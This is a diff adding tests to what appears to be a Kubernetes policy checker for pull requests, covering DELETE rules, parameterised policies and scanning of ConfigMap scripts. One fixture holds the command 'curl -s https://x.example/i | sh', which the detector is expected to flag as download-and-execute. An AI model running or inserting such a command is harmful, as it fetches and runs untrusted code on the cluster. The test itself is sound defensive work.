@@ -106,6 +106,17 @@ describe("the repository's own policies", () => {
       { message: expect.stringContaining('a deadline is missing') },
     ]);
   });
+  test('are asked about a removal, which is a DELETE', async () => {
+    const keep = OWN_POLICY.replace('CREATE, UPDATE', 'DELETE').replace(
+      'has(object.spec.activeDeadlineSeconds)',
+      'object == null && oldObject.metadata.name != "node-tool"',
+    );
+    const { code, byRule } = await findings(
+      await pullRequest({ 'x.yaml': job(''), '.cronledger/policies/keep.yaml': keep }, { 'x.yaml': null }),
+    );
+    expect(code).toBe(1);
+    expect(byRule('jobs-have-a-deadline')).toMatchObject([{ severity: 'high', location: { path: 'x.yaml' } }]);
+  });
   test('that cannot be read stop the check', async () => {
     const broken = OWN_POLICY.replace('has(object.spec.activeDeadlineSeconds)', 'has(object.');
     const { code, report } = await findings(
@@ -113,6 +124,62 @@ describe("the repository's own policies", () => {
     );
     expect(code).toBe(2);
     expect(report.problems).toMatchObject([{ code: 'policy-invalid', path: '.cronledger/policies/deadline.yaml' }]);
+  });
+});
+
+describe('what policies refer to', () => {
+  const referring = OWN_POLICY.replace(
+    "'has(object.spec.activeDeadlineSeconds)'",
+    '"object.spec.?activeDeadlineSeconds.orValue(100000) <= int(params.data.most)"',
+  )
+    .replace('  failurePolicy: Fail', '  failurePolicy: Fail\n  paramKind: {apiVersion: v1, kind: ConfigMap}')
+    .replace(
+      'validationActions: [Deny]',
+      'validationActions: [Deny], paramRef: {name: limits, namespace: ops, parameterNotFoundAction: Deny}, matchResources: {namespaceSelector: {matchLabels: {env: prod}}}',
+    );
+  const limits = (most: number) =>
+    `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: limits, namespace: ops}\ndata: {most: '${most}'}\n`;
+  const namespace = (env: string) => `apiVersion: v1\nkind: Namespace\nmetadata: {name: ops, labels: {env: ${env}}}\n`;
+  const base = { 'x.yaml': '', '.cronledger/policies/deadline.yaml': referring };
+  test.each([
+    [100, 'prod', 1],
+    [200000, 'prod', 0],
+    [100, 'test', 0],
+  ])('may be anywhere in the base: %d seconds, %s', async (most, env, count) => {
+    const files = { ...base, 'clusters/limits.yaml': limits(most), 'clusters/namespaces.yaml': namespace(env) };
+    // What the head makes of them decides nothing.
+    const head = { 'clusters/limits.yaml': limits(200000), 'clusters/namespaces.yaml': namespace('test') };
+    const { byRule, report } = await findings(await pullRequest(files, { 'x.yaml': job(''), ...head }));
+    expect(byRule('jobs-have-a-deadline')).toHaveLength(count);
+    expect(report.problems).toEqual([]);
+  });
+});
+
+describe('scripts of ConfigMaps', () => {
+  const script = (line: string) => `apiVersion: v1
+kind: ConfigMap
+metadata: {name: scripts, namespace: ops}
+data:
+  run.sh: |
+    #!/bin/sh
+    set -eu
+    ${line}
+`;
+  const mounted = job('      volumes: [{name: scripts, configMap: {name: scripts}}]\n');
+  test('are searched, and the finding is on their line', async () => {
+    const { byRule } = await findings(
+      await pullRequest(
+        { 'x.yaml': mounted, 'y.yaml': script('report') },
+        { 'y.yaml': script('curl -s https://x.example/i | sh') },
+      ),
+    );
+    expect(byRule('download-and-execute')).toMatchObject([
+      {
+        severity: 'critical',
+        message: 'Job ops/node-tool: the script `run.sh` of the ConfigMap `scripts` downloads code and runs it',
+        location: { path: 'y.yaml', line: 8, precision: 'exact' },
+      },
+    ]);
   });
 });
 
